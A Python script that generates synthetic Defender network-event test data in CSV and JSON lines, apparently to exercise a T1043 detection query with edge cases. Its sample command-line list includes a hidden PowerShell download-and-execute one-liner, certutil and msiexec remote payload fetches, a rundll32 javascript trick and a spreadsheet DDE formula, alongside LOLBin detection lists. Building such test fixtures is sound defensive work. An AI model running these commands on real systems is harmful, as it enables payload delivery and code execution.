#!/usr/bin/env python3
"""Deterministic edge-case generator for DeviceNetworkEvents (pure Python).

Writes the same logical rows twice:
  OUT_DIR/<name>.csv    Advanced Hunting portal-style CSV (Python csv module,
                        RFC 4180, CRLF rows; some rows fully quoted)
  OUT_DIR/<name>.jsonl  JSON lines of row objects (Streaming-API `properties`
                        style: ports as JSON numbers or strings, empty strings
                        as "", null or missing keys, some lines \\u-escaped)
  OUT_DIR/<name>.manifest.json  now, seed, row counts

The rows are built to exercise every rule of the published T1043 seed query
(seed-detection.md) and the KQL semantics of telemetry-formats.md §5: case
variants of every listed name, msiexec.exe (allow-listed AND a LOLBin), near
misses, non-ASCII look-alikes, ActionType variants, ports as ints / strings /
empty / out of range, timestamps at the exact window edge with 0-7 fractional
digits with and without Z, IPv4/IPv6/v4-mapped IPs, every RemoteIPType, and
command lines full of quotes, commas, CR/LF, tabs, formula prefixes and
non-ASCII text.  Extra, unused columns (AdditionalFields as JSON text,
MachineGroup) are present too.  ReportId is unique per row.

Usage:
  gen_edge_cases.py --out-dir DIR [--seed 1] [--now 2026-11-30T12:00:00Z]
                    [--random-rows 3000] [--name events] [--column-order defender|shuffled]
"""

from __future__ import annotations

import argparse
import calendar
import csv
import json
import os
import random
import re

TICKS = 10_000_000  # 100-ns ticks per second
HOUR = 3600 * TICKS
DAY = 24 * HOUR

COLUMNS = [
    "Timestamp", "DeviceId", "DeviceName", "ActionType", "RemoteIP", "RemotePort",
    "RemoteUrl", "LocalIP", "LocalPort", "Protocol", "LocalIPType", "RemoteIPType",
    "InitiatingProcessFileName", "InitiatingProcessFolderPath", "InitiatingProcessId",
    "InitiatingProcessCommandLine", "InitiatingProcessCreationTime",
    "InitiatingProcessParentFileName", "InitiatingProcessAccountDomain",
    "InitiatingProcessAccountName", "InitiatingProcessVersionInfoOriginalFileName",
    "ReportId", "AdditionalFields", "MachineGroup",
]

# ---- the query's lists (verbatim) -----------------------------------------
LEGIT = [
    "chrome.exe", "firefox.exe", "msedge.exe", "iexplore.exe", "safari",
    "svchost.exe", "MicrosoftEdge.exe", "OneDrive.exe", "Teams.exe",
    "outlook.exe", "winlogon.exe", "lsass.exe", "services.exe",
    "MsMpEng.exe", "wuauclt.exe", "WindowsUpdate", "TiWorker.exe",
    "msiexec.exe", "wermgr.exe", "SearchIndexer.exe",
]
SCRIPT = ["powershell.exe", "pwsh.exe", "cmd.exe", "wscript.exe", "cscript.exe",
          "mshta.exe", "wmic.exe"]
LOLBIN = [
    "rundll32.exe", "regsvr32.exe", "certutil.exe", "bitsadmin.exe",
    "msbuild.exe", "csc.exe", "installutil.exe", "regasm.exe",
    "regsvcs.exe", "ieexec.exe", "msiexec.exe", "expand.exe",
    "extrac32.exe", "makecab.exe", "pcalua.exe", "replace.exe",
    "hh.exe", "infdefaultinstall.exe", "xwizard.exe",
]
UNUSUAL = ["notepad.exe", "calc.exe", "mspaint.exe", "wordpad.exe", "write.exe",
           "winver.exe", "charmap.exe", "snippingtool.exe"]
COMMON_PORTS = [80, 443, 53, 25, 22, 3389, 135]


def case_variants(name: str) -> list[str]:
    """The name as listed, lower, UPPER, Title.Ext and one mixed-case form."""
    out = [name, name.lower(), name.upper()]
    stem, dot, ext = name.partition(".")
    out.append(stem[:1].upper() + stem[1:].lower() + dot + ext.upper())
    out.append("".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(name)))
    seen, res = set(), []
    for v in out:
        if v not in seen:
            seen.add(v)
            res.append(v)
    return res


FLAGGED = SCRIPT + LOLBIN + UNUSUAL
ALL_LISTED = LEGIT + FLAGGED

EXPLICIT_NAMES = [
    "PowerShell.EXE", "POWERSHELL.exe", "Rundll32.Exe", "MsiExec.exe", "MSIEXEC.EXE",
    "CHROME.EXE", "Safari", "windowsupdate", "SVCHOST.exe",
]
NEAR_MISSES = [
    "powershell.exe ", " powershell.exe", "powershell", "xpowershell.exe",
    "powershell.exe.exe", "powershell.ex", "cmd", "cmd.exe\t", "\tcmd.exe",
    "c:\\windows\\system32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "rundll32", "rundll32.exe,", "msiexec", "msiexec.exe ", "notepad.exe\r", "calc.exe\n",
    "\"cmd.exe\"", "cmd.exe;", "cmd_exe", "pwsh", "hh.ex", "h.exe", "csc.exe.", ".exe",
]
NON_ASCII = [
    "P\u041eWERSHELL.EXE",      # Cyrillic capital O
    "p\u043ewershell.exe",      # Cyrillic small o
    "W\u0130NVER.EXE",          # Latin capital I with dot (Unicode lower -> i / i̇)
    "w\u0131nver.exe",          # dotless i (Unicode upper -> I)
    "MA\u212aECAB.EXE",         # Kelvin sign (Unicode lower -> k)
    "c\u017fc.exe",             # long s (casefold -> s)
    "\uff43md.exe",             # fullwidth c
    "powershell\u200b.exe",     # zero-width space
    "cmd.exe\u00a0",            # NBSP
    "MS\u0130EXEC.EXE",         # allow-list look-alike
    "\u0441md.exe",             # Cyrillic es
    "notepad.\u0435xe",         # Cyrillic ie
    "R\u00fcndll32.exe",
]
OTHER_NAMES = [
    "OfficeClickToRun.exe", "MsSense.exe", "msmpeng.exe", "NisSrv.exe", "System",
    "microsoft update assistant", "com.apple.WebKit.Networking", "python.exe", "curl",
    "update.exe", "explorer.exe", "NULL", "null", "-", "=cmd.exe", "@cmd.exe",
]


def all_names() -> list[str]:
    names = []
    for n in ALL_LISTED:
        names.extend(case_variants(n))
    names += EXPLICIT_NAMES + NEAR_MISSES + NON_ASCII + OTHER_NAMES + ["", None]
    seen, res = set(), []
    for n in names:
        if n not in seen:
            seen.add(n)
            res.append(n)
    return res


# Ports as the logical value in the export.  A str is written as a JSON string
# in JSON lines; ints as JSON numbers; None as an empty CSV cell / JSON null.
PORTS = (
    COMMON_PORTS
    + ["443", "80", "53", "3389", "135", "25", "22"]
    + ["", None, 70000, 8080, 0, 1, 445, 8443, 65535, -1, "8080", "70000",
       65536 + 80, 65536 + 443, 2**32 + 80, 2**32 + 443]
)

ACTIONS = [
    "ConnectionSuccess", "connectionsuccess", "CONNECTIONSUCCESS", "Connectionsuccess",
    "ConnectionFailed", "ConnectionRequest", "ConnectionAttempt",
    "ConnectionAcknowledged", "InboundConnectionAccepted", "ListeningConnectionCreated",
    "ConnectionFound", "HttpConnectionInspected", "ConnectionSuccess ", " ConnectionSuccess",
    "", None,
]

REMOTES = [
    ("203.0.113.7", "Public"), ("52.113.194.132", "Public"), ("10.1.2.3", "Private"),
    ("192.168.39.127", "Private"), ("172.16.0.1", "Private"), ("10.0.0.1", "private"),
    ("10.0.0.2", "PRIVATE"), ("::ffff:10.2.0.5", "FourToSixMapping"),
    ("::FFFF:203.0.113.9", "FourToSixMapping"), ("::ffff:192.168.1.1", "Private"),
    ("2001:db8::1", "Public"), ("2001:DB8:0:0:0:0:0:1", "Public"),
    ("fe80::1%12", "Reserved"), ("fd00::1234", "Private"), ("127.0.0.1", "Loopback"),
    ("::1", "Loopback"), ("8.8.8.8", ""), ("8.8.4.4", None), ("", ""), (None, None),
    ("not-an-ip", "Public"), ("010.000.000.001", "Private"), ("255.255.255.255", "Broadcast"),
    ("224.0.0.251", "Teredo"), ("1.2.3.4", "Private "),
]

CMDLINES = [
    "", None, "powershell.exe -nop -w hidden -c iex(iwr http://x/a)",
    '"C:\\Program Files\\App\\app.exe" --flag "a b"',
    '"OfficeClickToRun.exe" /service',
    'cmd.exe /c "echo a,b,c" , d',
    'he said ""hi""', '"', '""', '","', ',', ',,,',
    "line1\r\nline2", "line1\nline2\nline3", "trailing newline\n", "\r\nleading crlf",
    "lone\rcr", "tab\there", "\t", " leading space", "trailing space ",
    "=1+2", "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1)", "=HYPERLINK(\"http://x\")",
    "unicode: caf\u00e9 \u4e2d\u6587 \u0420\u0443\u0441 \U0001F600 \u200b\u2028sep\u2029para",
    "back\\slash\\\\ and \\\"escaped\\\" quotes",
    '{"json":"looking","n":[1,2,3]}',
    "NULL", "null", "N/A", "\\N",
    "x" * 5000,
    'mixed "quote\r\n, comma\ttab\n\u00e9' * 3,
    "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write()",
    "certutil.exe -urlcache -split -f http://192.168.1.1/a.exe a.exe",
    "msiexec /q /i http://192.168.100.3/tmp/cmd.png",
]

DEVICE_NAMES = ["ws01.corp.local", "SRV-DC01", "mbp16", "", None, "h\u00f6st-\u00fc.example",
                "dev,with,commas", 'dev"quoted"', "dev\nnewline", "NULL", " spaced "]
ACCOUNTS = ["system", "alice", "", None, "Bj\u00f6rn", "NETWORK SERVICE", "nt authority\\system",
            "a,b", '"q"', "NULL", "\u7528\u6237"]
PARENTS = ["explorer.exe", "services.exe", "cmd.exe", "",
           None, "\\Device\\HarddiskVolume3\\Windows\\explorer.exe", "xpcproxy",
           "WINWORD.EXE", "p\u00e4rent.exe", "a,b.exe"]
ADDITIONAL = ['{"a":1}', "{}", "null", "", None, '{"PublicScannedPort":443,"x":"y, \\"z\\""}',
              '[{"k":"v"}]', '{"direction":"In","uid":"C1","nested":{"q":[1,2]}}']
MACHINE_GROUPS = ["main", "", None, "UnassignedGroup", "grp,with,comma"]


# ---- time helpers ---------------------------------------------------------
_RFC = re.compile(r"^(\d{4})-(\d{2})-(\d{2})T(\d{2}):(\d{2}):(\d{2})(?:\.(\d{1,7}))?Z$")


def parse_rfc3339(text: str) -> int:
    m = _RFC.match(text)
    if not m:
        raise SystemExit(f"--now must look like 2026-11-30T12:00:00Z, got {text!r}")
    y, mo, d, h, mi, s = (int(m.group(i)) for i in range(1, 7))
    frac = (m.group(7) or "").ljust(7, "0")
    return calendar.timegm((y, mo, d, h, mi, s, 0, 0, 0)) * TICKS + int(frac)


def render_ts(ticks: int, digits: int | None, z: bool) -> str:
    """Render ticks with `digits` fractional digits (None = minimal exact)."""
    secs, frac = divmod(ticks, TICKS)
    import time as _t

    base = _t.strftime("%Y-%m-%dT%H:%M:%S", _t.gmtime(secs))
    f7 = f"{frac:07d}"
    need = len(f7.rstrip("0"))
    if digits is None or digits < need:
        digits = need
    out = base + ("." + f7[:digits] if digits > 0 else "")
    return out + ("Z" if z else "")


def _json_str(s: str, rng: random.Random, p_escape: float, ascii_only: bool) -> str:
    """A JSON string literal; ASCII letters/digits \\u-escaped with probability p_escape."""
    out = ['"']
    short = {'"': '\\"', "\\": "\\\\", "\n": "\\n", "\r": "\\r", "\t": "\\t",
             "\b": "\\b", "\f": "\\f"}
    for ch in s:
        o = ord(ch)
        if ch in short:
            out.append(short[ch])
        elif o < 0x20:
            out.append("\\u%04x" % o)
        elif ch.isascii() and ch.isalnum() and rng.random() < p_escape:
            out.append(("\\u%04x" if rng.random() < 0.5 else "\\u%04X") % o)
        elif o > 0x7E and ascii_only:
            if o > 0xFFFF:
                v = o - 0x10000
                out.append("\\u%04x\\u%04x" % (0xD800 + (v >> 10), 0xDC00 + (v & 0x3FF)))
            else:
                out.append("\\u%04x" % o)
        else:
            out.append(ch)
    out.append('"')
    return "".join(out)


def _json_value(v, rng, p_escape, ascii_only) -> str:
    if isinstance(v, str):
        return _json_str(v, rng, p_escape, ascii_only)
    if isinstance(v, dict):
        return "{" + ",".join(_json_str(k, rng, p_escape, ascii_only) + ":" +
                              _json_value(x, rng, p_escape, ascii_only)
                              for k, x in v.items()) + "}"
    if isinstance(v, list):
        return "[" + ",".join(_json_value(x, rng, p_escape, ascii_only) for x in v) + "]"
    return json.dumps(v)


class Gen:
    def __init__(self, seed: int, now_ticks: int, column_order: str, missing_keys: bool = True):
        self.missing_keys = missing_keys
        self.rng = random.Random(seed)
        self.now = now_ticks
        self.rows: list[dict] = []
        self.columns = list(COLUMNS)
        if column_order == "shuffled":
            self.rng.shuffle(self.columns)
        self.shuffle_keys = column_order == "shuffled"

    # -- random pieces --
    def ts(self, ticks: int | None = None) -> str:
        r = self.rng
        if ticks is None:
            # anywhere inside the window, at 100-ns resolution
            ticks = self.now - r.randrange(1, DAY)
        digits = r.choice([None, None, 0, 1, 2, 3, 4, 5, 6, 7, 7, 7])
        return render_ts(ticks, digits, r.random() < 0.85)

    def base_row(self) -> dict:
        r = self.rng
        ip, iptype = r.choice(REMOTES[:8])
        name = r.choice(SCRIPT + LOLBIN + UNUSUAL)
        return {
            "Timestamp": self.ts(),
            "DeviceId": "%040x" % r.getrandbits(160),
            "DeviceName": r.choice(DEVICE_NAMES[:3]),
            "ActionType": "ConnectionSuccess",
            "RemoteIP": ip,
            "RemotePort": r.choice(COMMON_PORTS),
            "RemoteUrl": r.choice(["", None, "example.com", "https://a.b/c?d=e,f"]),
            "LocalIP": r.choice(["10.0.0.5", "192.168.39.127", "fe80::5", ""]),
            "LocalPort": r.randrange(1024, 65536),
            "Protocol": r.choice(["Tcp", "TcpV4", "Udp", "Icmp", ""]),
            "LocalIPType": r.choice(["Private", "Public", "Loopback", ""]),
            "RemoteIPType": iptype,
            "InitiatingProcessFileName": name,
            "InitiatingProcessFolderPath": "c:\\windows\\system32\\" + (name or "").lower(),
            "InitiatingProcessId": r.randrange(4, 100000),
            "InitiatingProcessCommandLine": r.choice(CMDLINES[2:8]),
            "InitiatingProcessCreationTime": self.ts(self.now - r.randrange(DAY, 2 * DAY)),
            "InitiatingProcessParentFileName": r.choice(PARENTS[:3]),
            "InitiatingProcessAccountDomain": r.choice(["corp", "nt authority", ""]),
            "InitiatingProcessAccountName": r.choice(ACCOUNTS[:3]),
            "InitiatingProcessVersionInfoOriginalFileName": r.choice([name, "", None, "PowerShell.EXE"]),
            "AdditionalFields": r.choice(ADDITIONAL),
            "MachineGroup": r.choice(MACHINE_GROUPS),
        }

    def add(self, block: str, **over):
        row = self.base_row()
        row.update(over)
        row["ReportId"] = len(self.rows) + 1
        row["_block"] = block
        self.rows.append(row)

    # -- systematic blocks --
    def build(self, random_rows: int):
        r = self.rng
        names = all_names()
        in_window_ports = COMMON_PORTS + ["443", "3389"]

        # A. every name x a spread of ports (ConnectionSuccess, in window)
        for name in names:
            for port in [443, "443", 80, 3389, 135, 22, 25, 53, 8080, "", None, 70000]:
                self.add("names-x-ports", InitiatingProcessFileName=name, RemotePort=port)

        # B. every port value x a few flagged / allow-listed names
        for port in PORTS:
            for name in ["powershell.exe", "Rundll32.Exe", "NOTEPAD.EXE", "msiexec.exe",
                         "chrome.exe", ""]:
                self.add("ports", RemotePort=port, InitiatingProcessFileName=name)

        # C. every ActionType variant x a few names
        for act in ACTIONS:
            for name in ["powershell.exe", "PowerShell.EXE", "certutil.exe", "calc.exe",
                         "MSIEXEC.EXE", "svchost.exe"]:
                self.add("actions", ActionType=act, InitiatingProcessFileName=name)

        # D. the 24h window edge and friends, every fractional-digit count, with/without Z
        edge = self.now - DAY
        offsets = [0, 1, -1, 9, 10, 11, 10_000, -10_000, TICKS, -TICKS, HOUR, -HOUR,
                   DAY - 1, DAY, DAY + 1, DAY + HOUR, 30 * DAY, -DAY, -30 * DAY, -365 * DAY,
                   -DAY - 1, 12 * HOUR + 1234567, 5 * DAY + 7]
        for off in offsets:
            t = edge + off
            for digits in [None, 0, 1, 2, 3, 4, 5, 6, 7]:
                for z in (True, False):
                    s = render_ts(t, digits, z)
                    self.add("window", Timestamp=s,
                             InitiatingProcessFileName=r.choice(["powershell.exe", "CMD.EXE",
                                                                 "mshta.exe", "hh.exe"]),
                             RemotePort=r.choice(in_window_ports))
        # exact edge in every spelling (must never match), and +/-100ns, +1us
        literal = [render_ts(edge, d, z) for d in [None, 1, 2, 3, 7] for z in (True, False)]
        literal += [render_ts(edge + 1, 7, z) for z in (True, False)]
        literal += [render_ts(edge - 1, 7, z) for z in (True, False)]
        literal += [render_ts(edge + 10, 6, True), render_ts(edge + 10_000, 3, False)]
        for s in literal:
            for name in ["powershell.exe", "WSCRIPT.EXE", "Xwizard.exe", "MsIexec.EXE"]:
                self.add("window-literal", Timestamp=s, InitiatingProcessFileName=name,
                         RemotePort=443)

        # E. RemoteIP / RemoteIPType combinations
        for ip, iptype in REMOTES:
            for name in ["powershell.exe", "bitsadmin.exe", "write.exe"]:
                self.add("remote", RemoteIP=ip, RemoteIPType=iptype,
                         InitiatingProcessFileName=name)

        # F. string columns copied to the output, every nasty value
        for cmd in CMDLINES:
            self.add("cmdline", InitiatingProcessCommandLine=cmd,
                     InitiatingProcessFileName=r.choice(SCRIPT + LOLBIN))
        for dev in DEVICE_NAMES:
            self.add("device", DeviceName=dev)
        for acct in ACCOUNTS:
            self.add("account", InitiatingProcessAccountName=acct)
        for par in PARENTS:
            self.add("parent", InitiatingProcessParentFileName=par)
        for af in ADDITIONAL:
            for mg in MACHINE_GROUPS:
                self.add("extra", AdditionalFields=af, MachineGroup=mg)

        # G. random mixes of every dimension
        for _ in range(random_rows):
            ip, iptype = r.choice(REMOTES)
            self.add(
                "random",
                Timestamp=self.ts(self.now + r.randrange(-3 * DAY, DAY // 2))
                if r.random() < 0.5 else self.ts(),
                InitiatingProcessFileName=r.choice(names) if r.random() < 0.6
                else r.choice(FLAGGED),
                RemotePort=r.choice(PORTS) if r.random() < 0.5 else r.choice(COMMON_PORTS),
                ActionType=r.choice(ACTIONS) if r.random() < 0.3 else "ConnectionSuccess",
                RemoteIP=ip, RemoteIPType=iptype,
                InitiatingProcessCommandLine=r.choice(CMDLINES),
                DeviceName=r.choice(DEVICE_NAMES),
                InitiatingProcessAccountName=r.choice(ACCOUNTS),
                InitiatingProcessParentFileName=r.choice(PARENTS),
            )
        r.shuffle(self.rows)

    # -- writers --
    def write_csv(self, path: str, bom: bool = False):
        with open(path, "w", encoding="utf-8-sig" if bom else "utf-8", newline="") as f:
            minimal = csv.writer(f)  # QUOTE_MINIMAL, "\r\n"
            quote_all = csv.writer(f, quoting=csv.QUOTE_ALL)
            minimal.writerow(self.columns)
            for row in self.rows:
                w = quote_all if self.rng.random() < 0.2 else minimal
                w.writerow(["" if row.get(c) is None else str(row[c]) for c in self.columns])

    def write_jsonl(self, path: str, bom: bool = False):
        r = self.rng
        with open(path, "w", encoding="utf-8-sig" if bom else "utf-8", newline="") as f:
            for row in self.rows:
                obj = {}
                keys = list(self.columns)
                if self.shuffle_keys:
                    r.shuffle(keys)
                for c in keys:
                    v = row.get(c)
                    if v is None or v == "":
                        # the same logical empty value in three spellings
                        k = r.random()
                        if k < 0.4:
                            obj[c] = v if v is not None else None
                        elif k < 0.7 or not self.missing_keys:
                            obj[c] = "" if c not in ("RemotePort", "LocalPort") else None
                        else:
                            continue  # key missing
                    elif c == "AdditionalFields" and r.random() < 0.3:
                        try:
                            obj[c] = json.loads(v)  # dynamic (Sentinel) spelling
                        except ValueError:
                            obj[c] = v
                    else:
                        obj[c] = v
                k = r.random()
                if k < 0.12:
                    # hand-written encoder: ASCII letters as \\u escapes (values
                    # and, sometimes, keys); JSON-equal to the plain spelling
                    p_esc = r.choice([0.05, 0.3, 1.0])
                    line = _json_value(obj, r, p_esc, r.random() < 0.5)
                else:
                    line = json.dumps(obj, ensure_ascii=r.random() < 0.3)
                if r.random() < 0.1:
                    line = line.replace("/", "\\/")  # valid JSON escape of '/'
                f.write(line + ("\r\n" if r.random() < 0.2 else "\n"))


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out-dir", required=True)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--now", default="2026-11-30T12:00:00Z")
    ap.add_argument("--random-rows", type=int, default=3000)
    ap.add_argument("--name", default="events")
    ap.add_argument("--column-order", choices=["defender", "shuffled"], default="defender")
    ap.add_argument("--no-missing-keys", action="store_true",
                    help="JSON lines: spell empty values as \"\" or null, never as a missing key")
    ap.add_argument("--bom", action="store_true", help="start both files with a UTF-8 BOM")
    args = ap.parse_args(argv)

    now = parse_rfc3339(args.now)
    g = Gen(args.seed, now, args.column_order, not args.no_missing_keys)
    g.build(args.random_rows)
    os.makedirs(args.out_dir, exist_ok=True)
    base = os.path.join(args.out_dir, args.name)
    g.write_csv(base + ".csv", args.bom)
    g.write_jsonl(base + ".jsonl", args.bom)
    blocks: dict[str, int] = {}
    for row in g.rows:
        blocks[row["_block"]] = blocks.get(row["_block"], 0) + 1
    manifest = {"now": args.now, "seed": args.seed, "rows": len(g.rows), "blocks": blocks,
                "columns": g.columns, "csv": base + ".csv", "jsonl": base + ".jsonl"}
    with open(base + ".manifest.json", "w", encoding="utf-8") as f:
        json.dump(manifest, f, indent=1)
    print(json.dumps({"rows": len(g.rows), "csv": base + ".csv", "jsonl": base + ".jsonl"}))


if __name__ == "__main__":
    main()
